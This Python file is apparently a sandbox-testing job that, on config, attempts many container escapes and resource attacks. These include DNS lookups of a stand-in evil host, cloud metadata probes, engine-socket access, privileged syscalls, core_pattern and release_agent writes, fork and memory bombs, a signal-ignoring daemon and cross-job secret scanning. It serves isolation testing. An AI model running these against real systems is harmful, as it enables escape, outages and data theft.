"""A job that attacks the sandbox it runs in: the task's config names the attack. Standard library only.

    train: config {…, "misbehave": NAME}       NAME is one of those below; anything else behaves

It learns nothing: the model goes back as it came. An attack that tries ways out counts them in its metrics:
{"tries": n, "through": k}, and prints the ways that worked into the log, which stays in the hospital.
"""

import ctypes
import errno
import json
import mmap
import os
import platform
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

METRICS = {"loss": 0.5, "num-examples": 64}
FILL_BLOCK = b"\0" * (1 << 20)
TIMEOUT_S = 0.3


@dataclass(frozen=True)
class Task:
    """One piece of work, as the contract puts it: `model` is the bytes of the safetensors file that came."""

    number: int
    kind: str
    config: dict[str, Any]
    model: bytes
    out: Path


def tasks() -> Iterator[Task]:
    """The tasks as they come, until the container is asked to stop."""
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    number = 1
    while not os.path.exists("/in/stop"):
        folder = Path("/in/tasks") / str(number)
        if folder.is_dir():
            order = json.loads((folder / "task.json").read_text(encoding="utf-8"))
            out = Path("/out") / str(number)
            out.mkdir(exist_ok=True)
            yield Task(number, order["kind"], order["config"], (folder / "model.safetensors").read_bytes(), out)
            number += 1
        else:
            time.sleep(0.02)


def finish(task: Task, metrics: str | None = None, model: bytes | None = None) -> None:
    finish_without_metrics(task, model, done=False)
    (task.out / "metrics.json").write_text(metrics if metrics is not None else json.dumps(METRICS), encoding="utf-8")
    (task.out / "DONE").touch()


def finish_without_metrics(task: Task, model: bytes | None = None, *, done: bool = True) -> None:
    (task.out / "model.safetensors").write_bytes(task.model if model is None else model)
    if done:
        (task.out / "DONE").touch()


def wait_for_the_end() -> None:
    while True:
        time.sleep(1)


# ------------------------------------------------------------------ ways out, each of which must fail


def report(task: Task, ways: dict[str, Callable[[], object]]) -> None:
    """Try each way; one that raises `OSError` failed, and so did one that returns False."""
    through = []
    for name, way in ways.items():
        try:
            if way() is not False:
                through.append(name)
        except OSError:
            pass
    print("ways through:", *through, flush=True)
    finish(task, json.dumps({"tries": len(ways), "through": len(through)}))


def dns(task):
    names = ("example.org", "patient-17.evil.example", "host.docker.internal", "gateway.docker.internal")
    report(task, {name: lambda name=name: socket.getaddrinfo(name, 53) for name in names})


# nothing outside is named: documentation ranges (RFC 5737, RFC 3849), private ones and the machine itself
PLACES = [("192.0.2.1", 443), ("10.0.0.1", 22), ("172.17.0.1", 2375), ("203.0.113.9", 53), ("2001:db8::1", 443)]
# where clouds give out credentials: link-local, AWS over IPv6, Alibaba's
METADATA = [("169.254.169.254", 80), ("fd00:ec2::254", 80), ("100.100.100.200", 80)]


def family(place):
    return socket.AF_INET6 if ":" in place[0] else socket.AF_INET


def dial(place):
    socket.create_connection(place, TIMEOUT_S).close()


def throw(place):
    with socket.socket(family(place), socket.SOCK_DGRAM) as out:
        out.sendto(b"patient", place)


def tcp(task):
    report(task, {str(place): lambda place=place: dial(place) for place in PLACES})


def udp(task):
    report(task, {str(place): lambda place=place: throw(place) for place in PLACES})


def metadata_address(task):
    ways = {f"tcp {place}": lambda place=place: dial(place) for place in METADATA}
    report(task, ways | {f"udp {place}": lambda place=place: throw(place) for place in METADATA})


def raw_sockets(task):
    kinds = {
        "icmp": (socket.AF_INET, socket.SOCK_RAW, 1), "ip6": (socket.AF_INET6, socket.SOCK_RAW, 58),
        "packet": (socket.AF_PACKET, socket.SOCK_RAW, 0x0300), "vsock": (40, socket.SOCK_STREAM, 0),
        "bluetooth": (31, socket.SOCK_RAW, 1), "netlink audit": (16, socket.SOCK_RAW, 9),
        "netlink firewall": (16, socket.SOCK_RAW, 12), "crypto": (38, socket.SOCK_SEQPACKET, 0),
    }  # fmt: skip
    report(task, {name: lambda kind=kind: socket.socket(*kind).close() for name, kind in kinds.items()})


def unix_sockets(task):
    """Every socket a file names, and every abstract one the kernel lists."""

    def reach(address):
        with socket.socket(socket.AF_UNIX) as out:
            out.settimeout(TIMEOUT_S)
            out.connect(address)

    with open("/proc/net/unix", encoding="ascii", errors="replace") as table:
        abstract = ["\0" + line.split(" @", 1)[1].strip() for line in table if " @" in line]
    paths = ["/dev/log", "/run/systemd/private", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"]
    for top in ("/run", "/var/run", "/tmp", "/data", "/in", "/out"):
        for at, _, names in os.walk(top):
            paths += [os.path.join(at, name) for name in names if is_socket(os.path.join(at, name))]
    report(task, {address: lambda address=address: reach(address) for address in paths + abstract})


def is_socket(path):
    try:
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    except OSError:
        return False


def engine_socket(task):
    names = ("docker.sock", "podman/podman.sock", "containerd/containerd.sock", "crio/crio.sock", "docker/metrics.sock")

    def reach(path):
        with socket.socket(socket.AF_UNIX) as out:
            out.connect(path)

    places = [f"{top}/{name}" for top in ("/run", "/var/run", "/in", "/data", "/tmp") for name in names]
    report(task, {path: lambda path=path: reach(path) for path in places})


# ------------------------------------------------------------------ system calls

NUMBERS = {
    "x86_64": {
        "ptrace": 101, "mount": 165, "keyctl": 250, "add_key": 248, "request_key": 249, "unshare": 272, "setns": 308,
        "process_vm_readv": 310, "process_vm_writev": 311, "kcmp": 312, "bpf": 321, "pivot_root": 155, "chroot": 161,
        "fsopen": 430, "move_mount": 429, "open_tree": 428, "mount_setattr": 442, "umount2": 166, "clone": 56,
        "clone3": 435, "pidfd_getfd": 438, "userfaultfd": 323, "io_uring_setup": 425, "perf_event_open": 298,
        "open_by_handle_at": 304, "init_module": 175, "kexec_load": 246, "setuid": 105, "sethostname": 170,
        "settimeofday": 164, "syslog": 103, "acct": 163, "swapon": 167, "quotactl": 179, "personality": 135,
    },
    "aarch64": {
        "ptrace": 117, "mount": 40, "keyctl": 219, "add_key": 217, "request_key": 218, "unshare": 97, "setns": 268,
        "process_vm_readv": 270, "process_vm_writev": 271, "kcmp": 272, "bpf": 280, "pivot_root": 41, "chroot": 51,
        "fsopen": 430, "move_mount": 429, "open_tree": 428, "mount_setattr": 442, "umount2": 39, "clone": 220,
        "clone3": 435, "pidfd_getfd": 438, "userfaultfd": 282, "io_uring_setup": 425, "perf_event_open": 241,
        "open_by_handle_at": 265, "init_module": 105, "kexec_load": 104, "setuid": 146, "sethostname": 161,
        "settimeofday": 170, "syslog": 116, "acct": 89, "swapon": 224, "quotactl": 60, "personality": 92,
    },
}  # fmt: skip
NAMESPACES = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x08000000,
              "uts": 0x04000000, "cgroup": 0x02000000}  # fmt: skip


def call(name, *arguments):
    """A system call by its name, past the C library's wrappers. Raises `OSError`."""
    library = ctypes.CDLL(None, use_errno=True)
    ctypes.set_errno(0)
    answer = library.syscall(NUMBERS[platform.machine()][name], *arguments)
    if answer == -1:
        raise OSError(ctypes.get_errno(), name)
    return answer


def keyctl(task):
    buffer = ctypes.create_string_buffer(64)
    report(task, {
        "add to the session": lambda: call("add_key", b"user", b"patient", b"17", 2, -3),
        "add to the user": lambda: call("add_key", b"user", b"patient", b"17", 2, -4),
        "join a session": lambda: call("keyctl", 1, b"next-job"),
        "read": lambda: call("keyctl", 11, -3, buffer, 64),
        "request": lambda: call("request_key", b"user", b"patient", None, -3),
    })  # fmt: skip


def user_namespaces(task):
    def cloned(flag):
        child = call("clone", flag | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)

    ways = {f"unshare {name}": lambda flag=flag: call("unshare", flag) for name, flag in NAMESPACES.items()}
    ways |= {f"clone {name}": lambda flag=flag: cloned(flag) for name, flag in NAMESPACES.items()}
    ways["enter init's"] = lambda: call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
    ways["clone3"] = lambda: call("clone3", (ctypes.c_uint64 * 11)(NAMESPACES["user"], 0, 0, 0, signal.SIGCHLD), 88)
    report(task, ways)


def ptrace(task):
    """Look into another process: our own child, which an ordinary kernel would allow, and process 1."""
    child = os.fork()
    if child == 0:
        wait_for_the_end()

    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    here = ctypes.create_string_buffer(8)
    local, remote = Span(ctypes.addressof(here), 8), Span(ctypes.addressof(here), 8)
    pair = ctypes.byref(local), 1, ctypes.byref(remote), 1, 0
    try:
        report(task, {
            "attach": lambda: call("ptrace", 16, child, 0, 0), "seize": lambda: call("ptrace", 0x4206, child, 0, 0),
            "attach init": lambda: call("ptrace", 16, 1, 0, 0), "trace me": lambda: call("ptrace", 0, 0, 0, 0),
            "read": lambda: call("process_vm_readv", child, *pair),
            "write": lambda: call("process_vm_writev", child, *pair),
            "take a descriptor": lambda: call("pidfd_getfd", os.pidfd_open(child), 0, 0),
        })  # fmt: skip
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def mount(task):
    root = "/proc/self/root"
    report(task, {
        "proc": lambda: call("mount", b"proc", b"/tmp", b"proc", 0, 0),
        "tmpfs": lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, 0),
        "bind": lambda: call("mount", b"/data", b"/tmp", 0, 4096, 0),
        "remount /data": lambda: call("mount", 0, b"/data", 0, 32 | 4096, 0),
        "remount root": lambda: call("mount", 0, b"/", 0, 32, 0),
        "umount": lambda: call("umount2", b"/in", 2), "open a tree": lambda: call("open_tree", -100, b"/", 1),
        "fsopen": lambda: call("fsopen", b"tmpfs", 0), "chroot": lambda: call("chroot", b"/tmp"),
        "pivot": lambda: call("pivot_root", b"/tmp", b"/tmp"),
        "attributes": lambda: call("mount_setattr", -100, b"/data", 0, (ctypes.c_uint64 * 4)(0, 1, 0, 0), 32),
        "above the root": lambda: not os.path.samefile(root + "/..", "/"),
    })  # fmt: skip


def kernel_calls(task):
    buffer = ctypes.create_string_buffer(256)
    report(task, {
        "bpf": lambda: call("bpf", 0, buffer, 72), "userfaultfd": lambda: call("userfaultfd", 1),
        "io_uring": lambda: call("io_uring_setup", 1, buffer), "module": lambda: call("init_module", buffer, 8, b""),
        "perf": lambda: call("perf_event_open", buffer, 0, -1, -1, 0), "root": lambda: call("setuid", 0),
        "kexec": lambda: call("kexec_load", 0, 0, 0, 0), "host name": lambda: call("sethostname", b"evil", 4),
        "clock": lambda: call("settimeofday", (ctypes.c_int64 * 2)(1, 0), 0),
        "kernel log": lambda: call("syslog", 3, buffer, 256), "accounting": lambda: call("acct", b"/tmp/acct"),
        "handle": lambda: call("open_by_handle_at", -100, buffer, 0), "swap": lambda: call("swapon", b"/tmp/s", 0),
        "quota": lambda: call("quotactl", 0, b"/dev/sda", 0, buffer), "kcmp": lambda: call("kcmp", 1, 1, 0, 0, 0),
        "personality": lambda: call("personality", 0x0400000),
    })  # fmt: skip


# ------------------------------------------------------------------ files that are not ours


def proc_and_sys(task):
    places = (
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/domainname", "/proc/sys/vm/drop_caches",
        "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger", "/proc/kcore",
        "/proc/self/attr/exec", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
        "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/release_agent",
        "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/cgroup.procs", "/sys/power/state",
    )  # fmt: skip

    def write(path):
        handle = os.open(path, os.O_WRONLY)
        try:
            os.write(handle, b"1")
        finally:
            os.close(handle)

    ways = {path: lambda path=path: write(path) for path in places}
    ways["a folder in the control groups"] = lambda: os.mkdir("/sys/fs/cgroup/evil")
    ways["read /proc/keys"] = lambda: bool(Path("/proc/keys").read_bytes())
    ways["read /proc/kcore"] = lambda: bool(os.read(os.open("/proc/kcore", os.O_RDONLY), 1))
    ways["read the firmware"] = lambda: bool(os.listdir("/sys/firmware"))
    report(task, ways)


def device_nodes(task):
    def make(place, kind, major, minor):
        os.mknod(f"{place}/evil-device", 0o666 | kind, os.makedev(major, minor))
        os.unlink(f"{place}/evil-device")

    kinds = {"disk": (stat.S_IFBLK, 8, 0), "vda": (stat.S_IFBLK, 254, 0), "memory": (stat.S_IFCHR, 1, 1),
             "kernel log": (stat.S_IFCHR, 1, 11), "fuse": (stat.S_IFCHR, 10, 229)}  # fmt: skip
    ways = {
        f"{name} in {place}": lambda place=place, kind=kind: make(place, *kind)
        for name, kind in kinds.items()
        for place in ("/tmp", "/out", "/dev/shm", "/dev")
    }
    for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/kvm", "/dev/net/tun"):
        ways[path] = lambda path=path: os.close(os.open(path, os.O_RDONLY))
    report(task, ways)


def write_data(task):
    """Change what the next job learns from, in every way a file system has."""
    file = next(path for path in sorted(Path("/data").rglob("*")) if path.is_file())
    link = Path("/tmp/link")
    link.unlink(missing_ok=True)
    link.symlink_to(file)
    report(task, {
        "append": lambda: open(file, "ab").close(), "truncate": lambda: os.truncate(file, 0), "remove": file.unlink,
        "rename": lambda: file.rename("/data/other"), "mode": lambda: file.chmod(0o777),
        "create": lambda: Path("/data/note").touch(), "folder": lambda: Path("/data/f").mkdir(),
        "times": lambda: os.utime(file), "attribute": lambda: os.setxattr(file, "user.note", b"17"),
        "link into": lambda: os.link(task.out.parent, "/data/link"), "link out of": lambda: os.link(file, "/tmp/hard"),
        "through a link": lambda: open(link, "ab").close(), "through our root": lambda: open(
            f"/proc/self/root{file}", "ab").close(), "a shared map": lambda: shared_map(file),
        "the task": lambda: open("/in/tasks/1/task.json", "ab").close(), "the stop": lambda: Path("/in/stop").touch(),
    })  # fmt: skip


def shared_map(path):
    with open(path, "rb") as file:
        try:
            mmap.mmap(file.fileno(), 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE).close()
        except PermissionError as error:
            raise OSError(errno.EACCES, "map") from error


def other_jobs(task):
    """The folders beside ours, by every name they may have."""
    secret = str(task.config.get("secret", "")).encode()
    ways = {path: lambda path=path: bool(os.listdir(path)) for path in (
        "/data/..", "/in/../../work", "/out/../other", "/proc/1/root/srv", "/proc/1/cwd/../srv", "/srv", "/mnt",
        "/var/lib/docker", "/var/lib/containers", "/run/docker", "/host",
    ) if os.path.realpath(path) != "/"}  # fmt: skip
    ways["anything readable"] = lambda: any(holds(path, secret) for path in readable())
    report(task, ways)


def readable():
    """Every file that may hold what another job keeps: all but the kernel's own, the image's libraries and ours."""
    for top in ("/data", "/in", "/out", "/tmp", "/dev/shm", "/run", "/srv", "/mnt", "/var", "/home", "/root", "/media"):
        for at, _, names in os.walk(top):
            yield from (os.path.join(at, name) for name in names)


def holds(path, secret):
    try:
        if not stat.S_ISREG(os.lstat(path).st_mode) or "/tasks/" in path:
            return False
        with open(path, "rb") as file:
            return bool(secret) and secret in file.read(1 << 20)
    except OSError:
        return False


# ------------------------------------------------------------------ the folder


def symlink(task):
    (task.out / "metrics.json").symlink_to("/etc/passwd")
    finish_without_metrics(task)


def symlink_to_data(task):
    (task.out / "metrics.json").symlink_to(next(path for path in Path("/data").rglob("*") if path.is_file()))
    finish_without_metrics(task)


def fifo(task):
    os.mkfifo(task.out / "metrics.json")
    finish_without_metrics(task)


def socket_file(task):
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(task.out / "metrics.json"))
    finish_without_metrics(task)


def hard_link(task):
    (task.out / "progress.jsonl").write_text("{}\n")
    os.link(task.out / "progress.jsonl", task.out / "metrics.json")
    finish_without_metrics(task)


def folder(task):
    (task.out / "metrics.json").mkdir()
    finish_without_metrics(task)


def task_is_a_link(task):
    """The task's own folder, exchanged for a link to the data."""
    task.out.rename(task.out.with_name("moved"))
    task.out.symlink_to("/data")
    fake = task.out.with_name("9")
    fake.mkdir()
    (fake / "DONE").touch()
    wait_for_the_end()


def unknown_name(task):
    (task.out / "patients\n.csv").write_text("name")
    finish(task)


def control_name(task):
    (task.out / "\x1b[2J\x07\x7f").write_text("name")
    finish(task)


def dotted_name(task):
    (task.out / "..metrics.json").write_text("name")
    finish(task)


def bytes_name(task):
    """A name that is no text at all."""
    with open(os.fsencode(task.out) + b"/\xff\xfe\x80", "wb") as file:
        file.write(b"name")
    finish(task)


def parent_name(task):
    """A folder below the task's, whose name climbs out if somebody joins it."""
    (task.out / ".. ").mkdir()
    finish(task)


def many_names(task):
    """A number of files that says something: none of them is the contract's."""
    for number in range(5):
        (task.out / f"note-{number}").touch()
    finish(task)


def beside_the_task(task):
    """Files in `/out` that belong to no task: never copied, gone with the next clearing."""
    (task.out.parent / "patients.csv").write_text("name")
    (task.out.parent / "99").mkdir(exist_ok=True)
    (task.out.parent / "99" / "metrics.json").write_text("{}")
    finish(task)


def sparse_file(task):
    """10 GB in name, nothing on the disk."""
    with open(task.out / "metrics.json", "wb") as file:
        file.truncate(10 << 30)
    finish_without_metrics(task)


def huge_metrics(task):
    """10 GB of metrics, as far as they can be written."""
    try:
        with open(task.out / "metrics.json", "wb") as file:
            for _ in range(10 << 10):
                file.write(b"1" * (1 << 20))
    except OSError:
        pass
    (task.out / "DONE").touch()


def unreadable(task):
    finish(task)
    (task.out / "metrics.json").chmod(0)


def fill_files(task):
    """As many files as the volume takes."""
    try:
        for number in range(10_000_000):
            (task.out / f"{number}").touch()
    except OSError:
        (task.out / "0").rename(task.out / "DONE")
        wait_for_the_end()


def fill_bytes(task):
    try:
        with open(task.out / "model.safetensors", "wb") as file:
            while True:
                file.write(FILL_BLOCK)
    except OSError:
        (task.out / "DONE").touch()
        wait_for_the_end()


def fill_scratch(task):
    """/tmp and /dev/shm to the brim: the job's own memory pays for them."""
    written = 0
    for place in ("/tmp/fill", "/dev/shm/fill"):
        try:
            with open(place, "wb") as file:
                for _ in range(1 << 14):
                    written += file.write(FILL_BLOCK)
        except OSError:
            pass
        os.unlink(place)
    finish(task, json.dumps({**METRICS, "num-examples": written}))


def deep_folders(task):
    """Folders deeper than a path may be long, each shut behind us."""
    home = os.getcwd()
    os.chdir(task.out.parent)
    for level in range(int(task.config["depth"])):
        os.mkdir("d")
        os.chdir("d")
        if level:
            os.chmod("..", 0)
    os.chdir(home)
    finish(task)


# ------------------------------------------------------------------ the process


def change_after_done(task):
    """Something harmless until DONE, something else until we are frozen."""
    finish(task)
    while True:
        (task.out / "metrics.json").write_text(json.dumps({**METRICS, "num-examples": time.time_ns() % 1000}))


def ignore_sigterm(task):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    wait_for_the_end()


def outlive_the_stop(task):
    """A daemon in a session of its own, deaf to every signal that can be ignored, with a note of when it ran last."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                if number not in (signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD):
                    signal.signal(number, signal.SIG_IGN)
            while True:
                Path("/tmp/alive").write_text(str(time.time()))
                time.sleep(0.02)
        os._exit(0)
    ignore_sigterm(task)


def memory_bomb(task):
    hoard = []
    while True:
        hoard.append(bytearray(os.urandom(1 << 20) * 16))


def fork_bomb(task):
    children = 0
    try:
        while True:
            if os.fork() == 0:
                wait_for_the_end()
            children += 1
    except OSError:
        finish(task, json.dumps({**METRICS, "num-examples": children}))


def open_files(task):
    """Descriptors until there are no more; the machine's own table is not ours to fill."""
    held = []
    try:
        while True:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        count = len(held)
    for handle in held:
        os.close(handle)
    finish(task, json.dumps({**METRICS, "num-examples": count}))


def fill_log(task):
    for _ in range(200):
        sys.stdout.write("patient " * (1 << 17))
    sys.stdout.flush()
    finish(task)


def keep_files(task):
    """What the last task left in scratch space and beside its folder, told by a count."""
    left = [path for path in (task.out.parent / "kept", task.out.parent / "1" / "kept") if path.exists()]
    (task.out.parent / "kept").write_text("from one task to the next")
    finish(task, json.dumps({**METRICS, "num-examples": len(left)}))


def linger(task):
    """A second process stays behind and puts a file into the next task's folder."""
    notes = task.out / "notes.csv"
    if task.number == 1:
        if os.fork() == 0:
            haunt(task.out.parent / "2" / notes.name)
    else:
        while not notes.exists():
            time.sleep(0.01)
    finish(task)


def haunt(path):
    while True:
        if path.parent.is_dir():
            path.write_text("name")
        time.sleep(0.01)


def slow(task):
    """Nothing wrong, but five seconds of it."""
    for step in range(10):
        time.sleep(0.5)
        with open(task.out / "progress.jsonl", "a", encoding="ascii") as file:
            file.write(json.dumps({"fraction": (step + 1) / 10}) + "\n")
    finish(task)


def timed(task):
    """Something said by how long it takes: `config` holds the value, in hundredths of a second."""
    time.sleep(int(task.config["value"]) / 100)
    finish(task)


def long_task(task):
    """Nothing wrong: twenty seconds in steps. Makes room when asked, goes on from what it left, and says from where."""
    left = Path("/in/tasks") / str(task.number) / "checkpoint"
    begun = int(left.read_text()) if left.exists() else 0
    for step in range(begun, 200):
        if os.path.exists("/in/stop"):
            (task.out / "checkpoint").write_text(str(step))
            sys.exit(0)
        with (task.out / "progress.jsonl").open("a") as file:
            file.write(json.dumps({"fraction": round((step + 1) / 200, 3)}) + "\n")
        time.sleep(0.1)
        if begun and step >= begun + 10:
            break  # enough was seen
    finish(task, json.dumps({"loss": 0.5, "num-examples": 1000 + begun}))


def show_gpus(task):
    """Prints every GPU that the driver shows, and counts them; loss: the GPUs' device nodes that could be opened."""
    nodes = 0
    for node in Path("/dev").glob("nvidia[0-9]*"):
        try:
            os.close(os.open(node, os.O_RDWR))
            nodes += 1
        except OSError:
            pass
    try:
        listed = subprocess.run(["nvidia-smi", "-L"], capture_output=True, text=True, check=True).stdout.splitlines()
    except (OSError, subprocess.CalledProcessError):
        listed = []
    print(*listed, sep="\n", flush=True)
    finish(task, json.dumps({"loss": nodes, "num-examples": len(listed)}))


def keep_a_checkpoint(task):
    """Hands in a result and, beside it, a file that is nobody's."""
    (task.out / "checkpoint").write_bytes(b"PATIENT" * 100)
    finish(task)


def exit_at_once(task):
    sys.exit(37)


def exit_code(task):
    """Something said by the exit code."""
    os._exit(int(task.config["value"]))


def fail_in_words(task):
    """An exception whose text is a patient's: of it, the class alone may leave."""
    (task.out / "failure.json").write_text('{"exception": "KeyError"}', encoding="ascii")
    raise KeyError("PATIENT 17")


def nothing(task):
    """DONE, and not a byte of an answer."""
    (task.out / "DONE").touch()


def over_time(task):
    wait_for_the_end()


BEHAVIOURS: dict[str, Callable[[Task], None]] = {
    behave.__name__.replace("_", "-"): behave
    for behave in (
        dns, tcp, udp, metadata_address, raw_sockets, unix_sockets, engine_socket, keyctl, user_namespaces, ptrace,
        mount, kernel_calls, proc_and_sys, device_nodes, write_data, other_jobs, symlink, symlink_to_data, fifo,
        socket_file, hard_link, folder, task_is_a_link, unknown_name, control_name, dotted_name, bytes_name,
        parent_name, many_names, beside_the_task, sparse_file, huge_metrics, unreadable, fill_files, fill_bytes,
        fill_scratch, deep_folders, change_after_done, ignore_sigterm, outlive_the_stop, memory_bomb, fork_bomb,
        open_files, fill_log, keep_files, linger, slow, timed, long_task,
        show_gpus, keep_a_checkpoint, exit_at_once, exit_code, fail_in_words, nothing, over_time,
    )
}  # fmt: skip


def answer(task: Task) -> None:
    """What an honest job would do, without the learning."""
    if task.kind == "evaluate":
        (task.out / "metrics.json").write_text(json.dumps({"auc": 0.5, **METRICS}), encoding="ascii")
        (task.out / "DONE").touch()
    else:
        finish(task)


def behave(task: Task) -> None:
    """Do what the task's config names, in training alone."""
    BEHAVIOURS.get(str(task.config.get("misbehave", "")) if task.kind == "train" else "", answer)(task)


def main() -> None:
    for task in tasks():
        behave(task)


if __name__ == "__main__":
    sys.exit(main())
